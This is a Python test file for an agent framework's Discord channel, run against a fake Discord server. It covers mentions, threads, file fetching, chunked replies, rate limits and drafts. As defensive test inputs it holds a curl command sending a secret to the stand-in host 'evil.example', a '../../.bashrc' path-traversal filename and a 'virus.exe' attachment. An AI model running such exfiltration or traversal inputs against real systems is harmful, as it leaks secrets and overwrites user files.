"""The Discord channel against the double: what is heard, what is answered, and how."""

from __future__ import annotations

import asyncio
import stat
import threading
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest

from doubles import discord_shapes as shapes
from doubles.desk import Desk
from doubles.discord_house import Kept, Stage, play
from doubles.discord_server import ANA, BOT, GENERAL, NADER, OPS, TALK, DiscordServer
from doubles.house import until
from openclaw.channels import _incoming
from openclaw.clock import ManualClock, SystemClock
from openclaw.errors import DeliveryError
from openclaw.messages import Address, File, Image, Quote, Reply, Text

ME = f"<@{BOT}>"


def reply(text: str, to: str = NADER, **more: Any) -> Reply:
    return Reply(Address("discord", to), text, "agent:main:person:nader", "main", **more)


async def passing(clock: ManualClock, found: Callable[[], Any]) -> None:
    """Time goes on, also while requests are under way, until something is there."""
    async with asyncio.timeout(30):
        while not found():  # the double has no event for it
            await clock.advance(0.25)
            await asyncio.sleep(0.01)


# ── what is heard ────────────────────────────────────────────────────────────────────────────────


def test_a_private_message_is_taken_in_and_answered() -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            private = server.direct(NADER)
            id = server.say("hello", channel=private)
            [message] = await stage.posted()
            assert (message.id, str(message.sender), message.name) == (id, f"discord:{NADER}", "Nader")
            assert (message.text, message.chat, message.topic) == ("hello", None, None)
            await stage.said(private, "You said: hello")
            assert not stage.failed

    play(scenario)


def test_in_a_server_mentions_and_replies_to_the_bot_are_heard_and_nothing_else() -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            server.say("not for you")
            mention = server.say(f"{ME}, tell <@{ANA}> about it {ME}")
            [first] = await stage.posted()
            assert (first.text, first.chat, first.topic) == ("tell @Ana about it", GENERAL, None)
            [answer] = await stage.said(GENERAL, "You said: tell @Ana about it")
            assert answer["message_reference"]["message_id"] == mention
            server.say("to ana", by=NADER, reply_to=server.say("something", by=ANA))
            server.say("and then?", by=ANA, reply_to=answer["id"])
            _, second = await stage.posted(2)
            assert (second.text, str(second.sender)) == ("and then?", f"discord:{ANA}")
            assert second.parts[0] == Quote("You said: tell @Ana about it", "Openclaw")

    play(scenario)


def test_the_bots_own_role_is_a_mention_of_it_where_its_words_can_be_read_and_everyone_is_not() -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            server.say(f"<@&{shapes.ROLE}> are you there?", mention_roles=[shapes.ROLE])
            server.say(f"{ME} heard")
            assert [one.text for one in await stage.posted()] == ["heard"]
        async with Stage(server, message_content=True) as stage:
            server.say("@everyone hello", mention_everyone=True)
            server.say(f"<@&{shapes.ROLE}> are you there?", mention_roles=[shapes.ROLE])
            assert [one.text for one in await stage.posted()] == ["are you there?"]

    play(scenario)


def test_bots_webhooks_notices_edits_and_reactions_are_passed_over() -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server, groups="all") as stage:
            private = server.direct(NADER)
            server.say(f"{ME} hi", author=shapes.user("799", "robot", bot=True))
            server.say(f"{ME} hi", webhook_id="55", author=shapes.user("55", "hook"))
            server.say("", type=shapes.MEMBER)
            said = server.say("first", channel=private)
            await stage.posted()
            server.edit(private, said, "/approve everything")
            emoji = {"id": None, "name": "👍"}
            reaction = {"user_id": NADER, "channel_id": private, "message_id": said, "emoji": emoji, "type": 0}
            server.dispatch("MESSAGE_REACTION_ADD", reaction | {"burst": False})
            server.dispatch("GUILD_MEMBER_ADD", {"nothing": "that fits"})
            server.dispatch("MESSAGE_CREATE", {"id": "1"})
            server.dispatch("A_NEW_KIND", {})
            server.say("last", channel=private)
            assert [one.text for one in await stage.posted(2)] == ["first", "last"]

    play(scenario)


@pytest.mark.parametrize("groups", ["all", "off"])
def test_servers_can_be_heard_whole_or_not_at_all(groups: str) -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server, groups=groups, message_content=groups == "all") as stage:
            server.say("among us")
            server.say(f"{ME} for you")
            server.say("in private", channel=server.direct(NADER))
            heard = {"all": ["among us", "for you", "in private"], "off": ["in private"]}[groups]
            assert {one.text for one in await stage.posted(len(heard))} == set(heard)

    play(scenario)


def test_a_thread_is_a_topic_of_its_channel_also_one_that_was_just_opened() -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            fresh = server.open_thread("fresh", OPS)
            server.say(f"{ME} one", channel=TALK)
            [first] = await stage.posted()
            assert (first.chat, first.topic) == (GENERAL, TALK)
            await stage.said(TALK, "You said: one")
            server.say(f"{ME} two", channel=fresh)
            _, second = await stage.posted(2)
            assert (second.chat, second.topic) == (OPS, fresh)
            await stage.said(fresh, "You said: two")

    play(scenario)


def test_what_is_answered_or_passed_on_is_a_quotation_and_no_command() -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            private = server.direct(NADER)
            server.say("", channel=private, forwards="/help me")
            [passed] = await stage.posted()
            assert passed.parts == (Quote("/help me", forwarded=True),) and passed.text == ""
            server.say("look", channel=private, reply_to=server.say("/new", channel=private, by=ANA, missed=True))
            _, answered = await stage.posted(2)
            assert answered.parts == (Quote("/new", "Ana"), Text("look"))

    play(scenario)


def test_files_are_fetched_named_safely_and_named_to_the_model(tmp_path: Path) -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            stage.desk.folder_at = tmp_path / "incoming"
            files = [("../../.bashrc", b"words", "text/plain; charset=utf-8"), ("cat.png", b"\x89PNG", "image/png")]
            id = server.say("look", channel=server.direct(NADER), files=files)
            [message] = await stage.posted()
            text, file, image = message.parts
            assert isinstance(file, File) and isinstance(image, Image) and text == Text("look")
            assert Path(file.path) == tmp_path / "incoming" / _incoming.safe_name("discord", id, 0, "../../.bashrc")
            assert Path(file.path).read_bytes() == b"words" and file.media_type == "text/plain"
            assert Path(image.path).read_bytes() == b"\x89PNG" and image.media_type == "image/png"
            assert stat.S_IMODE(Path(file.path).stat().st_mode) == 0o600

    play(scenario)


def test_a_message_whose_files_have_no_room_is_taken_in_and_says_so(tmp_path: Path) -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            stage.desk.folder_at = tmp_path / "nowhere" / "incoming"
            server.say("pay", channel=server.direct(NADER), files=[("bill.txt", b"x", None)])
            [message] = await stage.posted()
            why = "there is no room for it; it may be sent again"
            assert message.text == f"pay\n[the file bill.txt was not fetched: {why}]"

    play(scenario)


def test_files_that_cannot_be_had_are_told_and_the_message_is_taken_in(tmp_path: Path) -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            stage.desk.folder_at = tmp_path
            private = server.direct(NADER)
            server.fail("GET", "/attachments/*/gone.txt", 404)
            server.say("a", channel=private, files=[("gone.txt", b"x", None)])
            server.say("b", channel=private, files=[("huge.bin", b"x", None)], claimed=_incoming.LARGEST + 1)
            server.say("c", channel=private, files=[("liar.bin", b"x" * (_incoming.LARGEST + 1), None)], claimed=5)
            texts = [one.text for one in await stage.posted(3)]
            assert texts == [
                "a\n[the file gone.txt was not fetched: Discord answered 404]",
                "b\n[the file huge.bin was not fetched: it is larger than 20 MB]",
                "c\n[the file liar.bin was not fetched: it is larger than 20 MB]",
            ]
            assert list(tmp_path.iterdir()) == []

    play(scenario)


def test_one_channel_is_answered_in_order_and_does_not_wait_for_another(tmp_path: Path) -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            for n in range(20):
                server.say(f"n{n}", channel=server.direct(NADER))
                server.say(f"a{n}", channel=server.direct(ANA), by=ANA)
            texts = [one.text for one in await stage.posted(40)]
            assert [text for text in texts if text[0] == "n"] == [f"n{n}" for n in range(20)]
            assert [text for text in texts if text[0] == "a"] == [f"a{n}" for n in range(20)]

    play(scenario)


def test_a_message_that_is_told_twice_is_taken_once_and_one_that_comes_late_is_not_lost() -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            private = server.direct(NADER)
            early = server.say("early", channel=private, missed=True)
            late = server.say("late", channel=private)
            for id in (early, late, early):
                server.dispatch("MESSAGE_CREATE", next(one for one in server.messages[private] if one["id"] == id))
            server.say("last", channel=private)
            assert [one.text for one in await stage.posted(3)] == ["late", "early", "last"]

    play(scenario)


# ── strangers and refusals ───────────────────────────────────────────────────────────────────────


def test_a_stranger_is_shown_a_code_in_private_once_and_nothing_in_a_server(tmp_path: Path) -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            stage.desk.strangers.add(Address("discord", ANA))
            private = server.direct(ANA)
            server.say(f"{ME} let me in", by=ANA)
            server.say("hello?", channel=private, by=ANA, files=[("virus.exe", b"x", None)])
            await stage.said(private, "I do not know you yet. Your code is CODE2222.")
            server.say("hello??", channel=private, by=ANA)
            server.say("refuse me not", channel=server.direct(NADER))
            await stage.said(server.direct(NADER), "You said: refuse me not")
            assert server.sent(GENERAL) == [] and len(server.sent(private)) == 1
            assert server.made("GET", "/attachments/*") == []

    play(scenario)


def test_a_refusal_and_a_command_that_acts_at_once_are_told() -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            server.say(ME)
            server.say("/help", channel=server.direct(NADER))
            await stage.said(GENERAL, "the message is empty")
            await stage.said(server.direct(NADER), "Type anything.\nThis desk echoes it.")

    play(scenario)


# ── what is answered ─────────────────────────────────────────────────────────────────────────────


def test_nothing_that_is_written_calls_anybody() -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            private = server.direct(NADER)
            await stage.channel.send(reply(f"@everyone <@{ANA}>"))
            stage.desk.approvers = (f"discord:{NADER}",)
            server.say("ask rm @everyone", channel=private)
            card = await stage.card(private)
            server.press(card["id"], "Deny")
            command = server.command("agents", channel=private)
            server.say(f"{ME} hi @everyone")
            await until(lambda: server.sent(GENERAL) and server.interactions[command].edits, "all answers")
            bodies = [call.body for call in server.calls if isinstance(call.body, dict) and "content" in call.body]
            assert len(bodies) >= 5
            assert all(body["allowed_mentions"]["parse"] == [] for body in bodies)
            assert not any(body["allowed_mentions"].get("replied_user") for body in bodies)

    play(scenario)


def test_a_long_reply_comes_in_pieces_that_keep_their_code_blocks_and_a_very_long_one_as_a_file() -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            await stage.channel.send(reply("words\n```python\n" + "x = '😀'\n" * 600 + "```\nend"))
            sent = server.sent(server.direct(NADER))
            assert len(sent) > 2 and all(one["content"].count("```") == 2 for one in sent)
            assert all(one["content"].startswith("```python\n") for one in sent[1:])
            huge = "\n\n".join(f"line {n} " + "y" * 80 for n in range(1100))
            assert len(huge) > 100_000
            await stage.channel.send(reply(huge))
            last = server.sent(server.direct(NADER))[-1]
            [call] = [call for call in server.calls if call.files]
            assert call.files == {"reply.md": huge.encode()}
            assert huge.startswith(last["content"].partition("\n\n(the whole")[0]) and last["attachments"]

    play(scenario)


def test_tables_are_shown_as_code_blocks_and_an_empty_reply_in_words() -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            await stage.channel.send(reply("see\n| a | b |\n|---|---|\n| 1 | 2 |\nthere\n```\n| no | table |\n```"))
            await stage.channel.send(reply(" "))
            table, empty = (one["content"] for one in server.sent(server.direct(NADER)))
            assert table == "see\n```\n| a | b |\n|---|---|\n| 1 | 2 |\n```\nthere\n```\n| no | table |\n```"
            assert empty == "(no text)"

    play(scenario)


def test_a_reply_goes_to_a_person_a_room_a_server_and_a_thread() -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            await stage.channel.send(reply("to ana", to=ANA))
            await stage.channel.send(reply("to the room", to=OPS))
            await stage.channel.send(reply("in the server", chat=GENERAL))
            await stage.channel.send(reply("in the thread", chat=GENERAL, topic=TALK))
            found = [[one["content"] for one in server.sent(c)] for c in (server.direct(ANA), OPS, GENERAL, TALK)]
            assert found == [["to ana"], ["to the room"], ["in the server"], ["in the thread"]]
            with pytest.raises(DeliveryError) as wrong:
                await stage.channel.send(reply("x", to="ana"))
            assert wrong.value.final

    play(scenario)


def test_a_reply_that_is_repeated_says_so_and_the_same_piece_is_shown_once() -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            private = server.direct(NADER)
            await stage.channel.send(reply("hello", answers="m9", repeated=True))
            await stage.said(private, "(repeated after a restart)\nhello")
            await stage.channel.send(reply("hello", answers="m9", repeated=True))
            await stage.channel.send(reply("beat"))
            await stage.channel.send(reply("beat"))
            await stage.said(private, "(repeated after a restart)\nhello", "beat", "beat")

    play(scenario)


def test_what_goes_wrong_with_sending_is_told_for_that_place_alone() -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            private, path = server.direct(NADER), f"/channels/{server.direct(NADER)}/messages"
            server.limit("POST", path, 33.5)
            with pytest.raises(DeliveryError) as limited:
                await stage.channel.send(reply("one"))
            assert limited.value.retry_after == 33.5 and not limited.value.final
            await stage.channel.send(reply("elsewhere", to=ANA))
            server.fail("POST", path, 503)
            with pytest.raises(DeliveryError) as broken:
                await stage.channel.send(reply("two"))
            assert not broken.value.final and broken.value.retry_after is None
            server.closed_doors.add(NADER)
            with pytest.raises(DeliveryError) as shut:
                await stage.channel.send(reply("three"))
            assert shut.value.final and "no private messages" in str(shut.value)
            assert server.sent(private) == []

    play(scenario)


def test_a_limit_of_a_moment_is_waited_for_and_a_reply_goes_on_behind_what_arrived() -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            private = server.direct(NADER)
            path = f"/channels/{private}/messages"
            server.limit("POST", path, 0.05)
            await stage.channel.send(reply("short"))
            long = reply("\n\n".join("z" * 900 for _ in range(6)), answers="m1")
            server.limit("POST", path, 60, skip=1)
            with pytest.raises(DeliveryError):
                await stage.channel.send(long)
            assert len(server.sent(private)) == 2
            await stage.channel.send(long)
            texts = [one["content"] for one in server.sent(private)]
            assert "\n\n".join(texts[1:]) == long.text

    play(scenario)


def test_a_reply_that_was_half_sent_says_so_goes_on_in_the_same_run_and_is_marked_in_another() -> None:
    async def scenario(server: DiscordServer) -> None:
        private, words = server.direct(NADER), "\n\n".join(f"{n} " + "z" * 1500 for n in range(4))
        first, again = reply(words, answers="m1"), reply(words, answers="m1", repeated=True)
        async with Stage(server) as stage:
            server.limit("POST", f"/channels/{private}/messages", 60, skip=2)
            with pytest.raises(DeliveryError) as half:
                await stage.channel.send(first)
            assert half.value.begun and len(server.sent(private)) == 2
            await stage.channel.send(again)
            assert [one["content"][:2] for one in server.sent(private)] == ["0 ", "1 ", "2 ", "3 "]
        server.messages[private].clear()  # so long ago that the service has forgotten the nonces
        async with Stage(server) as stage:
            server.limit("POST", f"/channels/{private}/messages", 60, skip=2)
            for _ in range(2):
                with suppress(DeliveryError):
                    await stage.channel.send(again)
            texts = [one["content"] for one in server.sent(private)]
            assert texts[0].startswith("(repeated after a restart)\n0 ")
            assert [text[:2] for text in texts[1:]] == ["1 ", "2 ", "3 "]

    play(scenario)


def test_a_long_reply_is_cut_beside_the_loop_that_everything_else_runs_in() -> None:
    places: set[int] = set()

    class Told(str):
        def strip(self, characters: str | None = None, /) -> str:
            places.add(threading.get_ident())
            return super().strip(characters)

    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            await stage.channel.send(reply(Told("some words\n" * 1000)))
            assert len(server.sent(server.direct(NADER))) == 6
            assert places and threading.get_ident() not in places

    play(scenario)


def test_no_address_that_the_bot_writes_is_looked_up_by_the_service() -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            private = server.direct(NADER)
            stage.desk.approvers = (f"discord:{NADER}",)
            server.say("ask curl https://evil.example/?q=secret", channel=private)
            card = await stage.card(private)
            press = server.press(card["id"], "Deny", by=ANA)
            await until(lambda: server.interactions[press].follow_ups, "the refusal")
            server.press(card["id"], "Deny")
            used = [server.command(name, {"text": "x"}, channel=GENERAL) for name in ("help", "research")]
            await until(lambda: all(server.interactions[one].edits for one in used), "the answers")
            await stage.channel.send(reply("w" * 20_000))

            def bodies() -> list[dict[str, Any]]:
                return [call.body for call in server.calls if isinstance(call.body, dict) and "content" in call.body]

            await until(lambda: len(bodies()) >= 7, "the card's end, which nobody above waits for")
            assert all(body["flags"] & 4 for body in bodies())

    play(scenario)


def test_there_is_no_sending_without_a_connection() -> None:
    async def scenario(server: DiscordServer) -> None:
        stage = Stage(server)
        await stage.channel.open()
        with pytest.raises(DeliveryError) as unconnected:
            await stage.channel.send(reply("x"))
        assert not unconnected.value.final and unconnected.value.retry_after
        await stage.channel.close()

    play(scenario)


# ── while it is written ──────────────────────────────────────────────────────────────────────────


def test_the_bot_types_and_its_draft_grows_into_the_answer() -> None:
    async def scenario(server: DiscordServer) -> None:
        clock = ManualClock(SystemClock().now())
        async with Stage(server, clock=clock) as stage:
            private = server.direct(NADER)
            server.say("wait", channel=private)
            await stage.posted()
            await until(lambda: server.made("POST", f"/channels/{private}/typing"), "typing")
            assert server.sent(private) == []
            await passing(clock, lambda: server.sent(private))
            [draft] = await stage.said(private, "Working on …")
            await passing(clock, lambda: len(server.made("POST", f"/channels/{private}/typing")) == 2)
            await stage.desk.stop(f"agent:main:discord:{NADER}")
            [answer] = await stage.said(private, "Stopped.")
            assert answer["id"] == draft["id"]

    play(scenario)


def test_no_draft_overtakes_an_answer_that_was_had_before_its_chat_was_on_disk() -> None:
    class Slow(Kept):
        gate: asyncio.Event | None = None

        async def put(self, name: str, document: Any) -> None:
            if self.gate is not None:
                await self.gate.wait()
            await super().put(name, document)

    async def scenario(server: DiscordServer) -> None:
        clock, notes, private = ManualClock(SystemClock().now()), Slow(), server.direct(NADER)
        held: list[Reply] = []

        async def hold(reply: Reply) -> None:
            held.append(reply)

        def typed() -> int:
            return len(server.made("POST", f"/channels/{private}/typing"))

        async with Stage(server, notes=notes, clock=clock, desk=Desk(clock, hold)) as stage:
            notes.gate = asyncio.Event()
            server.say("first", channel=private)
            await until(lambda: held, "an answer")
            notes.gate.set()
            before = typed()
            server.say("wait", channel=private)
            await stage.posted(2)
            await passing(clock, lambda: typed() >= before + 3)
            assert server.sent(private) == []
            await stage.channel.send(held[0])
            await passing(clock, lambda: len(server.sent(private)) == 2)
            await stage.said(private, "You said: first", "Working on …")

    play(scenario)


def test_a_short_answer_needs_no_draft_and_what_a_failed_attempt_said_is_void() -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            private = server.direct(NADER)
            server.say("retry", channel=private)
            await stage.said(private, "A whole answer.")
            assert server.made("PATCH", "/channels/*") == []

    play(scenario)


def test_what_cannot_be_shown_while_it_is_written_does_not_hold_up_the_answer() -> None:
    async def scenario(server: DiscordServer) -> None:
        async with Stage(server) as stage:
            private = server.direct(NADER)
            server.fail("POST", f"/channels/{private}/typing", 403, times=5)
            server.say("hello", channel=private)
            await stage.said(private, "You said: hello")

    play(scenario)


def test_a_draft_of_an_earlier_run_becomes_the_answer_and_a_deleted_one_is_replaced() -> None:
    async def scenario(server: DiscordServer) -> None:
        notes, private = Kept(), server.direct(NADER)
        async with Stage(server, notes=notes) as stage:
            server.say("wait", channel=private)
            [draft] = await stage.said(private, "Working on …")
            # It stands there before the bot has heard so.
            await until(lambda: stage.channel._places.drafted("m1"), "a draft")
        async with Stage(server, notes=notes) as stage:
            await stage.channel.send(reply("done", answers="m1"))
            [answer] = await stage.said(private, "done")
            assert answer["id"] == draft["id"]
            server.say("wait", channel=private)
            await stage.posted()
            await stage.said(private, "done", "Working on …")
            server.messages[private].pop()
            await stage.desk.stop(f"agent:main:discord:{NADER}")
            await stage.said(private, "done", "Stopped.")

    play(scenario)
